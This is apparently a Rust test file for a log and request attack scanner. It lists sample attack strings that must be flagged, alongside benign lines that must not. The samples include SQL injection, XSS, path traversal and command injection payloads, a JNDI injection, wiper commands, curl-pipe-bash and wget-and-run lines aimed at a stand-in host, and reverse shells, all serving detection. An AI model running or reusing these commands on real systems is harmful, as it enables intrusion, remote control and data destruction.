//! Tests of the rules, with examples of our own.

use super::*;

fn found(text: &str, is_request: bool) -> Vec<&'static str> {
    scan(text.as_bytes(), &mut Vec::new(), is_request).iter().map(Rule::id).collect()
}

#[test]
fn the_patterns_compile_and_every_list_is_known() {
    assert!(COMPILED.is_some());
    assert_eq!(Rule::ALL.len(), RULES);
    assert!(Rule::ALL.iter().enumerate().all(|(index, rule)| *rule as usize == index));
}

#[test]
fn attacks_are_found() {
    for (rule, text) in [
        ("sqli", "/item?id=1'+OR+'1'='1"),
        ("sqli", "/item?id=-1%20UNION/**/ALL%20SELECT%20null,null--%20"),
        ("sqli", "/item?id=9%27%3Bselect%20pg_sleep%285%29--"),
        ("sqli", "id=1) and 77=77"),
        ("sqli", "name=bob';drop table users;--"),
        ("sqli", "1 order by 12--"),
        ("xss", "/find?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        ("xss", "q=\"><img src=x onerror=alert(7)>"),
        ("xss", "u=javascript:document.cookie"),
        ("path-traversal", "/get?file=..%2f..%2f..%2fetc%2fpasswd"),
        ("path-traversal", "/get?file=%252e%252e%255c%252e%252e%255cboot.ini"),
        ("path-traversal", "/..%c0%af..%c0%afwinnt/win.ini"),
        ("path-traversal", "page=file:///etc/passwd"),
        ("cmdi", "host=10.0.0.1;cat /etc/hosts"),
        ("cmdi", "host=a%7Cwhoami"),
        ("cmdi", "q=$(sleep 5)"),
        ("cmdi", "q=`id`"),
        ("code-injection", "agent ${jndi:ldap://x.example/a}"),
        ("scanner", "Mozilla/5.00 (Nikto/2.1.6)"),
        ("destructive-command", "bob : COMMAND=/bin/rm -rf / --no-preserve-root"),
        ("destructive-command", "sh -c rm -rf /var"),
        ("destructive-command", "dd if=/dev/zero of=/dev/sda bs=1M"),
        ("destructive-command", "vssadmin.exe Delete Shadows /all /quiet"),
        ("download-execute", "curl -s http://x.example/i.sh | sudo bash"),
        ("download-execute", "cd /tmp; wget http://x.example/m; chmod 777 m; ./m"),
        ("reverse-shell", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"),
        ("reverse-shell", "nc 10.9.8.7 4444 -e /bin/sh"),
        ("auth-failure", "Failed password for bob from 10.0.0.9"),
        ("auth-failure", "pam: authentication failure; user=bob"),
        ("access-denied", "Unauthorized access attempt to sensitive file by user012"),
        ("probe-path", "/.git/config"),
        ("fault-word", "kernel: Out of memory: killed process 12"),
    ] {
        let found = found(text, text.starts_with('/'));
        assert!(found.contains(&rule), "{rule}: {text}: {found:?}");
    }
}

#[test]
fn ordinary_lines_are_no_attack() {
    for text in [
        "Accepted publickey for deploy from 10.0.0.9 port 4022 ssh2",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "Mozilla/5.0 (compatible; SomeBot/2.1; +http://bot.example/info.html)",
        "/search?q=rock+and+roll+or+jazz&page=2",
        "/shop?sort=price&order=asc&price=10-20",
        "select a seat from the list and order by phone",
        "union of three sets; see also the manual",
        "rm -f build/cache.o",
        "User O'Neil and D'Arcy logged in",
        "listing directory /etc with 12 entries",
        "deadline exceeded after 5 s -- retrying",
        "conanmap updated, dirbuild ready",
        "a -> b; c = d && e",
        "cleanup; id 77 type x",
        "fetch http://example.org/a.sh done",
        "0x2e is a dot",
        "x = y or z = 4",
        "1024 and 2048 are powers",
        "param=a%20b%2Fc",
        "jsmith@example.org",
        "C/ Mayor, 5, 2o B",
    ] {
        let hits = scan(text.as_bytes(), &mut Vec::new(), text.starts_with('/'));
        let attacks: Vec<_> = hits.iter().filter(|rule| rule.decades() >= 4.0).map(Rule::id).collect();
        assert!(attacks.is_empty(), "{text}: {attacks:?}");
    }
}

#[test]
fn any_bytes_are_read_in_linear_time() {
    let hostile = b"(((((' or ' or ../%2e%c0%c0../;;;;`$((".repeat(2_000);
    scan(&hostile, &mut Vec::new(), true);
}
